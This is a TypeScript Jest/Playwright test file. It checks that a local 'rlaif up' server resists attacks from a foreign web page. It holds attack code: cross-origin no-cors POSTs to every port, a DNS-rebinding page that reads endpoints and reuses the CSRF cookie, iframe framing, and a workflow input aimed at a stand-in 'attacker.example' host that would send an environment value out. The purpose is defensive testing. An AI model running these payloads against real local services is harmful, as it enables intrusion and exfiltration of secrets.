// What a web page of another site, open in a real browser on the machine of `rlaif up`, can do to it. The page knows every
// port: a scan would find them.
import { readdirSync, readFileSync, readlinkSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { REFUSED_PORTS } from '../../src/http/refused-ports'
import { inBrowser, openBrowser } from '../browser/browser'
import { freePort } from '../dev-server'
import { openLocalStack, type LocalStack } from '../local-stack'

jest.setTimeout(240_000)

interface Record {
  pid: number
  ui: string
}

let stack: LocalStack
let browser: Browser
let site: Server
let usual: Server
let ports: number[]
let record: Record
const metricsPort = freePort()

/** The ports that a process listens at, from the kernel's tables. */
function portsOf(pid: number): number[] {
  const sockets = readdirSync(`/proc/${pid}/fd`).flatMap((fd) => {
    try {
      return /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/${fd}`))?.[1] ?? []
    } catch {
      return [] // closed meanwhile
    }
  })
  return readFileSync('/proc/net/tcp', 'utf8')
    .split('\n')
    .map((line) => line.trim().split(/\s+/))
    .filter((columns) => columns[3] === '0A' && sockets.includes(columns[9]!))
    .map((columns) => parseInt(columns[1]!.split(':')[1]!, 16))
}

beforeAll(async () => {
  site = createServer((_, response) => void response.setHeader('content-type', 'text/html').end('<h1>A page</h1>'))
  await new Promise<void>((done) => site.listen(0, '127.0.0.1', done))
  usual = createServer() // holds the UI's usual port: another stack must not take it while none is at this one's door
  await new Promise<void>((done) => usual.once('error', () => done()).listen(8233, '127.0.0.1', done))
  stack = await openLocalStack('--metrics', `127.0.0.1:${await metricsPort}`)
  record = JSON.parse(readFileSync(join(stack.home, 'server.json'), 'utf8')) as Record
  ports = [...new Set([...portsOf(record.pid), ...portsOf(stack.up.pid!)])]
  browser = await openBrowser(
    '--host-resolver-rules=MAP *.example 127.0.0.1',
    '--disable-features=LocalNetworkAccessChecks', // as in the browsers that have no such check
  )
})
afterAll(async () => {
  await browser?.close()
  await stack?.close()
  site?.close()
  usual?.close()
})

/** A page of a site elsewhere. */
async function foreignPage(): Promise<Page> {
  const page = await browser.newPage()
  await page.goto(`http://attacker.example:${(site.address() as AddressInfo).port}/`)
  return page
}

/** A page of a site whose name leads to this machine since the browser loaded it (DNS rebinding), at the same port. */
async function reboundPage(port: number): Promise<Page | undefined> {
  const page = await browser.newPage()
  const url = `http://rebound.example:${port}/attack`
  await page.route(url, (route) => route.fulfill({ contentType: 'text/html', body: '<h1>A page</h1>' }))
  return page.goto(url).then(
    () => page,
    () => undefined, // a port that browsers refuse
  )
}

const inputs = {
  workflowType: { name: 'align' },
  taskQueue: { name: 'rlaif' },
  input: [{ labeler: { baseUrl: 'http://attacker.example/v1', model: 'x', apiKeyEnv: 'HOME' } }],
}
const routeOf = (run: string) => `/api/v1/namespaces/default/workflows/${run}`

async function startedRuns(): Promise<string[]> {
  await new Promise((done) => setTimeout(done, 1500)) // until runs are listed
  const names: string[] = []
  for await (const { workflowId } of stack.client.workflow.list()) names.push(workflowId)
  return names
}

inBrowser('the server and its owner listen where the test believes', () => {
  expect(ports.length).toBeGreaterThan(6)
  expect(ports).toContain(Number(new URL(record.ui).port))
})

inBrowser('browsers connect to none of the ports for servers without a guard', async () => {
  for (const port of REFUSED_PORTS) {
    const page = await browser.newPage()
    const reason = await page.goto(`http://127.0.0.1:${port}/`).then(String, (error: Error) => error.message)
    expect([port, reason]).toEqual([port, expect.stringMatching(/UNSAFE_PORT/)])
    await page.close()
  }
})

inBrowser('a no-cors POST of a page to every port starts no workflow', async () => {
  const page = await foreignPage()
  await page.evaluate(`Promise.allSettled(${JSON.stringify(ports)}.flatMap((port) =>
    ['127.0.0.1', 'localhost'].map((host) =>
      fetch('http://' + host + ':' + port + ${JSON.stringify(routeOf('posted-'))} + port,
        { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(JSON.stringify(inputs))} }))))`)
  expect(await startedRuns()).toEqual([])
})

inBrowser('a page whose name was rebound to this machine reads nothing and starts nothing at any port', async () => {
  const read: string[] = []
  for (const port of ports) {
    const page = await reboundPage(port)
    if (!page) continue
    const answers = (await page.evaluate(`(async () => {
      const answers = []
      const text = async (path, options) => {
        try {
          const response = await fetch(path, { signal: AbortSignal.timeout(3000), ...options })
          if (response.ok) answers.push(path + ' ' + (await response.text()).slice(0, 60))
        } catch {}
      }
      for (const path of ['/', '/api/v1/namespaces', '/metrics', '/healthz', '/api/v1/settings']) await text(path)
      const csrf = /_csrf=(\\w+)/.exec(document.cookie)?.[1] ?? ''
      const body = ${JSON.stringify(JSON.stringify(inputs))}
      const headers = { 'content-type': 'application/json', 'x-csrf-token': csrf }
      await text(${JSON.stringify(routeOf(`rebound-${port}`))}, { method: 'POST', body, headers })
      return answers
    })()`)) as string[]
    read.push(...answers.map((answer) => `${port}${answer}`))
    await page.close()
  }
  expect(read).toEqual([])
  expect(await startedRuns()).toEqual([])
})

inBrowser('a page can neither frame the UI nor read it, and people reach it by links and at both names', async () => {
  const page = await foreignPage()
  const framed = page.waitForResponse((response) => response.url().startsWith(record.ui))
  await page.evaluate(`document.body.append(Object.assign(document.createElement('iframe'), { src: '${record.ui}/' }))`)
  expect((await framed).status()).toBe(403)
  expect(await page.evaluate(`fetch('${record.ui}/api/v1/namespaces').then(() => 'read', () => 'refused')`)).toBe(
    'refused',
  )

  const opened = browser.contexts().at(-1)!.waitForEvent('page')
  await page.evaluate(`document.body.innerHTML = '<a target=_blank rel=noopener href="${record.ui}/">the run</a>'`)
  await page.getByRole('link').click()
  const ui = await opened
  await ui.getByText('Workflows').first().waitFor()
  await ui.goto(`${record.ui.replace('127.0.0.1', 'localhost')}/namespaces/default/workflows`)
  await ui.getByText('Workflows').first().waitFor()
})

inBrowser('after the process that guards the UI was killed, the next one guards it at the same address', async () => {
  const died = new Promise((done) => stack.up.once('close', done))
  stack.up.kill('SIGKILL')
  await died
  await expect(fetch(`${record.ui}/`)).rejects.toThrow()
  await stack.upAgain()
  const now = JSON.parse(readFileSync(join(stack.home, 'server.json'), 'utf8')) as Record
  expect(now).toMatchObject({ pid: record.pid, ui: record.ui })
  expect((await fetch(`${record.ui}/api/v1/namespaces`)).status).toBe(200)
  expect(await (await reboundPage(Number(new URL(record.ui).port)))!.evaluate(`fetch('/').then((r) => r.status)`)).toBe(
    403,
  )
})
